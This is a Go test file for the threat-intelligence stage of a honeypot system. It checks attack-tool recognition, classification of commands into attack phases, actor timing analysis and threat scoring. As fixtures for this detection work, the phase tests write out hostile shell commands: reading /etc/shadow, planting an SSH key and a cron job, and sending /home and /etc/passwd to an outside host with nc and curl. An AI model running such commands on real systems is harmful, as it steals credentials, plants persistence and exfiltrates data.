package intelpipe

import (
	"context"
	"slices"
	"testing"
	"time"

	"github.com/decnet-go/decnet/internal/event"
	"github.com/decnet-go/decnet/internal/store"
)

func TestToolRecognition(t *testing.T) {
	ssh := map[string]string{
		"SSH-2.0-libssh_0.9.6":                 "libssh",
		"SSH-2.0-libssh2_1.10.0":               "libssh2",
		"SSH-2.0-paramiko_3.4.0":               "paramiko",
		"SSH-2.0-Go":                           "go",
		"SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu": "openssh",
		"SSH-2.0-PuTTY_Release_0.78":           "putty",
		"SSH-2.0-Nmap-SSH2-Hostkey":            "nmap",
		"SSH-2.0-ZGrab ZGrab SSH Survey":       "zgrab",
		"SSH-2.0-Gopher":                       "",
		"garbage":                              "",
	}
	for banner, want := range ssh {
		if got := ToolFromSSHBanner(banner); got != want {
			t.Errorf("ToolFromSSHBanner(%q) = %q, want %q", banner, got, want)
		}
	}
	ua := map[string][]string{
		"curl/8.5.0":             {"curl"},
		"python-requests/2.31.0": {"python-requests"},
		"Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)": {"nmap"},
		"masscan/1.3 (https://github.com/robertdavidgraham/masscan)":                      {"masscan"},
		"Mozilla/5.0 zgrab/0.x":                         {"zgrab"},
		"sqlmap/1.7.2#stable (https://sqlmap.org)":      {"sqlmap"},
		"Mozilla/4.0 (Hydra)":                           {"hydra"},
		"Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0": nil,
	}
	for s, want := range ua {
		if got := ToolsFromUserAgent(s); !slices.Equal(got, want) {
			t.Errorf("ToolsFromUserAgent(%q) = %v, want %v", s, got, want)
		}
	}
}

func cmdEvent(cmd string) event.Event {
	e := event.New("decky-01", "ssh", event.TypeCommand)
	e.Fields = map[string]any{"command": cmd}
	return e
}

func TestPhases(t *testing.T) {
	cases := []struct {
		e    event.Event
		want []string
	}{
		{event.New("d", "ssh", event.TypeConnect), []string{PhaseRecon}},
		{event.New("d", "ssh", event.TypeLoginAttempt), []string{PhaseCredentialAccess}},
		{cmdEvent("uname -a"), []string{PhaseExecution, PhaseRecon}},
		{cmdEvent("cat /etc/shadow"), []string{PhaseExecution, PhaseCredentialAccess}},
		{cmdEvent("echo ssh-rsa AAAA >> ~/.ssh/authorized_keys"), []string{PhaseExecution, PhasePersistence}},
		{cmdEvent("(crontab -l; echo '* * * * * /tmp/x') | crontab -"), []string{PhaseExecution, PhasePersistence}},
		{cmdEvent("tar cz /home | nc 203.0.113.9 4444"), []string{PhaseExecution, PhaseExfiltration}},
		{cmdEvent("curl -T /etc/passwd http://203.0.113.9/"), []string{PhaseExecution, PhaseCredentialAccess, PhaseExfiltration}},
		{cmdEvent("ls -la"), []string{PhaseExecution}},
	}
	for _, c := range cases {
		if got := PhasesOf(c.e); !slices.Equal(got, c.want) {
			t.Errorf("PhasesOf(%s %v) = %v, want %v", c.e.Type, c.e.Fields, got, c.want)
		}
	}
}

func timingOf(gaps ...float64) store.ProfileTiming {
	var tm store.ProfileTiming
	at := time.Unix(1_700_000_000, 0)
	addInterval(&tm, at)
	for _, g := range gaps {
		at = at.Add(time.Duration(g * float64(time.Second)))
		addInterval(&tm, at)
	}
	return tm
}

func TestClassifyActor(t *testing.T) {
	cases := []struct {
		name       string
		t          store.ProfileTiming
		modality   string
		want, basi string
	}{
		{"too few", timingOf(3, 7), "", ActorUnknown, ""},
		{"fast", timingOf(0.1, 0.2, 0.1, 0.3, 0.2), "", ActorAutomated, "timing"},
		{"metronome", timingOf(5, 5, 5.1, 5, 4.9), "", ActorAutomated, "timing"},
		{"human", timingOf(2, 9, 1.5, 14, 4, 30), "", ActorHuman, "timing"},
		{"behave wins", timingOf(0.1, 0.1, 0.1, 0.1), "typed", ActorHuman, "behave"},
		{"scripted", store.ProfileTiming{}, "scripted", ActorAutomated, "behave"},
	}
	for _, c := range cases {
		if a, b := ClassifyActor(c.t, c.modality); a != c.want || b != c.basi {
			t.Errorf("%s: ClassifyActor = %s/%s, want %s/%s", c.name, a, b, c.want, c.basi)
		}
	}
	// Redelivered or out-of-order events add nothing; idle gaps are not intervals.
	tm := timingOf(1, 2)
	if addInterval(&tm, tm.LastTS) || addInterval(&tm, tm.LastTS.Add(-time.Second)) {
		t.Error("an event not after the last one changed the timing")
	}
	addInterval(&tm, tm.LastTS.Add(time.Hour))
	if tm.Intervals != 2 {
		t.Errorf("%d intervals after an idle hour, want 2", tm.Intervals)
	}
}

func TestThreatScore(t *testing.T) {
	if s := ThreatScore(store.Attacker{}, store.AttackerProfile{}); s != 0 {
		t.Errorf("empty attacker scores %d", s)
	}
	scan := store.Attacker{EventCount: 1, Services: []string{"ssh"}, Deckies: []string{"d1"}}
	if s := ThreatScore(scan, store.AttackerProfile{Phases: []string{PhaseRecon}}); s != 6 {
		t.Errorf("one connect scores %d, want 3 (volume) + 3 (recon)", s)
	}
	big := store.Attacker{EventCount: 100000, CredentialCount: 500, Services: []string{"a", "b", "c", "d"},
		Deckies: []string{"1", "2", "3", "4"}}
	all := store.AttackerProfile{Phases: phaseOrder, Tools: []string{"hydra"}, Actor: ActorHuman}
	if s := ThreatScore(big, all); s != 100 {
		t.Errorf("everything scores %d, want 100", s)
	}
	// An operator who got a shell outranks a long-running scanner.
	scanner := store.Attacker{EventCount: 50000, Services: []string{"ssh"}, Deckies: []string{"d1"}}
	op := store.Attacker{EventCount: 40, CredentialCount: 3, Services: []string{"ssh"}, Deckies: []string{"d1"}}
	s1 := ThreatScore(scanner, store.AttackerProfile{Phases: []string{PhaseRecon}, Tools: []string{"masscan"}})
	s2 := ThreatScore(op, store.AttackerProfile{Phases: []string{PhaseRecon, PhaseCredentialAccess, PhaseExecution, PhasePersistence}, Actor: ActorHuman})
	if s2 <= s1 {
		t.Errorf("operator %d <= scanner %d", s2, s1)
	}
}

func TestProfileStage(t *testing.T) {
	ctx := context.Background()
	f := newFixture(t)
	const ip = "198.51.100.20"
	at := time.Now().Add(-time.Minute).UTC()
	var evs []event.Event
	mk := func(typ string, fields map[string]any, dt float64) event.Event {
		at = at.Add(time.Duration(dt * float64(time.Second)))
		e := event.New("decky-01", "ssh", typ)
		e.Time, e.SrcIP, e.SrcPort, e.Fields = at, ip, 40000, fields
		evs = append(evs, e)
		return e
	}
	mk(event.TypeConnect, map[string]any{"client_version": "SSH-2.0-libssh_0.9.6"}, 0)
	for range 6 {
		mk(event.TypeLoginAttempt, map[string]any{"client_version": "SSH-2.0-libssh_0.9.6", "username": "root"}, 0.2)
	}
	if _, err := f.st.IngestBatch(ctx, evs); err != nil {
		t.Fatal(err)
	}
	for _, e := range evs {
		if err := profileOne(ctx, f.p, e); err != nil {
			t.Fatal(err)
		}
	}
	a, err := f.st.AttackerByIP(ctx, ip)
	if err != nil {
		t.Fatal(err)
	}
	if a.Profile == nil {
		t.Fatal("no profile stored")
	}
	p := a.Profile
	if !slices.Equal(p.Tools, []string{"libssh"}) || !slices.Equal(p.Phases, []string{PhaseRecon, PhaseCredentialAccess}) ||
		p.Actor != ActorAutomated || a.ThreatScore != p.ThreatScore || p.ThreatScore == 0 {
		t.Errorf("profile %+v, score column %d", *p, a.ThreatScore)
	}
	if n := f.pub.count(TopicAttackerObserved); n != 1 {
		t.Errorf("%d attacker.observed, want 1", n)
	}
	scored := f.pub.count(TopicAttackerScored)
	if scored < 1 {
		t.Error("no attacker.scored")
	}

	// Redelivery, one batch of them all, changes nothing and publishes nothing.
	for _, err := range f.p.profile(ctx, evs) {
		if err != nil {
			t.Fatal(err)
		}
	}
	if f.pub.count(TopicAttackerObserved) != 1 || f.pub.count(TopicAttackerScored) != scored {
		t.Errorf("redelivery published again: %v", f.pub.msgs)
	}

	// Persistence raises the score: attacker.scored again, and the list shows it.
	e := mk(event.TypeCommand, map[string]any{"command": "echo key >> /root/.ssh/authorized_keys"}, 3)
	if _, err := f.st.IngestBatch(ctx, []event.Event{e}); err != nil {
		t.Fatal(err)
	}
	if err := profileOne(ctx, f.p, e); err != nil {
		t.Fatal(err)
	}
	if f.pub.count(TopicAttackerScored) != scored+1 {
		t.Errorf("%d attacker.scored after persistence, want %d", f.pub.count(TopicAttackerScored), scored+1)
	}
	rows, _, err := f.st.Attackers(ctx, store.Page{Limit: 10})
	if err != nil || len(rows) != 1 || rows[0].Profile == nil || !slices.Contains(rows[0].Profile.Phases, PhasePersistence) ||
		rows[0].ThreatScore <= p.ThreatScore {
		t.Errorf("list: %+v, %v", rows, err)
	}

	// An address without a row waits for the ingest worker.
	e = event.New("decky-01", "http", event.TypeRequest)
	e.SrcIP = "198.51.100.21"
	if err := profileOne(ctx, f.p, e); err == nil {
		t.Error("no row: want a retry")
	}
}

// profileOne runs the profile stage on one event.
func profileOne(ctx context.Context, p *Pipeline, e event.Event) error {
	return p.profile(ctx, []event.Event{e})[0]
}
